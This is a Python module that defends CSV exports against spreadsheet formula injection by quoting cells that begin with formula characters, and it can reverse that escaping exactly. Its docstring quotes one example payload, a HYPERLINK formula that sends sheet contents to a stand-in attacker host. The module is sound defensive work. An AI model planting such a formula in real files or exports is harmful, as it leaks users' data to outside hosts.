"""Spreadsheet formula injection in CSV files we write (OWASP's "CSV injection").

A spreadsheet opening a CSV runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula (``=HYPERLINK("http://evil.example/?"&A1,"x")`` sends the sheet away), and a leading tab
or carriage return can hide such a start. Every text cell of our CSV exports that begins with one
of those is written with a ``'`` before it, which spreadsheets show as plain text.

So that an export read back gives the same text, the rule is a bijection: a cell that already
begins with ``'``s followed by one of those characters gets one more ``'``, and reading removes
exactly one ``'`` from a cell that begins with ``'``s followed by one of them. Numbers stay
numbers (they are written from numbers, never from text). JSON exports are exact and untouched.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _looks_like_formula(text: str) -> bool:
    """``text`` after any leading quotes begins with a formula character."""
    rest = text.lstrip(QUOTE)
    return rest[:1] in FORMULA_STARTS and rest != ""


def escape_cell(text: str) -> str:
    """The text as written to a CSV cell: ``'`` before a formula start (see the module)."""
    if isinstance(text, str) and _looks_like_formula(text):
        return QUOTE + text
    return text


def unescape_cell(text: str) -> str:
    """The text a CSV cell written by ``escape_cell`` stood for."""
    if isinstance(text, str) and text.startswith(QUOTE) and _looks_like_formula(text):
        return text[1:]
    return text
